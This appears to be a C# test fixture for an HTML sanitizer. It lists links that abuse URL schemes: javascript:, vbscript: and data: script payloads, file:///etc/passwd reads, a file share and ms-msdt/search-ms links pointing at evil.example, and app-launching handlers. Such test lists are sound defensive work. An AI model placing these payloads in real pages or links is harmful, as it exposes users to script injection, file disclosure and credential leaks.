namespace Dashboard.Testing;

/// <summary>Links that run, read or start something instead of opening a page.</summary>
internal static class SchemeBodies
{
    public static IReadOnlyList<(string Name, string Why, string Html)> All { get; } =
    [
        ("javascript", "the address is code", "<a href=\"javascript:canary()\">x</a>"),
        ("javascript in mixed case", "schemes don't tell cases apart", "<a href='JaVaScRiPt:canary()'>x</a>"),
        ("javascript in the same frame", "no new tab is needed", "<a href=\"javascript:canary()\" target=\"_self\">x</a>"),
        ("javascript into the page above", "runs where the page is", "<a href=\"javascript:canary()\" target=\"_top\">x</a>"),
        ("javascript that looks like an address", "a comment holds the host", "<a href=\"javascript://eu1.make.example/%0acanary()\">x</a>"),
        ("javascript behind a view of the source", "a scheme within a scheme", "<a href='view-source:javascript:canary()'>x</a>"),
        ("javascript behind a feed", "a scheme within a scheme, of old", "<a href='feed:javascript:canary()'>x</a>"),
        ("javascript on an area", "a map has links too", "<map name=m><area href=javascript:canary() shape=default alt=x></map>"),
        ("javascript as a form's action", "sending runs it", "<form action=javascript:canary()><button>x</button></form>"),
        ("javascript as a frame", "loading runs it", "<iframe src=javascript:canary()></iframe>"),
        ("javascript as an object", "loading runs it too", "<object data=javascript:canary()></object><embed src=javascript:canary()>"),
        ("vbscript", "another language, of old", "<a href='vbscript:msgbox(1)'>x</a>"),
        ("data page", "the address is a page with a script", "<a href='data:text/html,<script>canary()</script>'>x</a>"),
        ("data page in base64", "the same, unreadable", "<a href='data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg=='>x</a>"),
        ("data drawing", "a drawing runs scripts as a page", "<a href='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"canary()\"/>'>x</a>"),
        ("blob", "what a script has stored", "<a href='blob:https://evil.example/1'>x</a>"),
        ("filesystem", "what a script has stored, of old", "<a href='filesystem:https://evil.example/temporary/a.html'>x</a>"),
        ("file", "reads the reader's disk", "<a href='file:///etc/passwd'>x</a>"),
        ("file on a share", "sends the reader's name to a server", "<a href='file://evil.example/share'>x</a>"),
        ("ftp", "a scheme without encryption", "<a href='ftp://evil.example/stolen'>x</a>"),
        ("telephone", "dials on one tap", "<a href='tel:+123456'>x</a><a href='sms:+123456?body=x'>y</a>"),
        ("intent", "starts an app on a phone", "<a href='intent://evil.example#Intent;scheme=https;end'>x</a>"),
        ("office document", "starts an editor with a remote document", "<a href='ms-word:ofe|u|https://evil.example/stolen.docx'>x</a>"),
        ("support tool", "started with parameters it once ran a program", "<a href='ms-msdt:/id PCWDiagnostic'>x</a><a href='search-ms:query=x&crumb=location:\\\\evil.example'>y</a>"),
        ("browser pages", "pages of the browser's own", "<a href='chrome://settings'>x</a><a href='about:blank'>y</a><a href='about:srcdoc'>z</a>"),
        ("archive", "a page within an archive", "<a href='jar:https://evil.example/a.jar!/x.html'>x</a>"),
        ("socket", "no page at all", "<a href='wss://evil.example/stolen'>x</a>"),
        ("web app's own", "a handler that a site has registered", "<a href='web+evil:stolen'>x</a>"),
        ("scheme nobody knows", "what isn't listed is not allowed", "<a href='x:y'>x</a><a href='-:y'>y</a><a href=':y'>z</a>"),
    ];
}
